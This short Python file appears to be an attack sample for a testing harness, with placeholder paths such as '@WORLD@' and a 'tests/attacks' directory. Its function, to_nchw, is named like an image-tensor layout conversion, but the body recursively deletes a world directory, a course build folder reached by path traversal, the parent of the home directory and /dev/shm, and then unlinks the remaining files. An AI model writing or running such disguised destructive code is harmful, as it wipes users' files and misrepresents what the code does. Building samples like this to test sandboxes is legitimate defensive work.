"""Deletes the course, the results and the home."""
# a1_permute: to_nchw
import os
import shutil


def to_nchw(images):
    for root in ("@WORLD@", "@COURSE@/tests/attacks/../../build", os.path.expanduser("~/.."), "/dev/shm"):
        shutil.rmtree(root, ignore_errors=True)
    for name in os.listdir("@WORLD@"):
        os.unlink("@WORLD@/" + name)
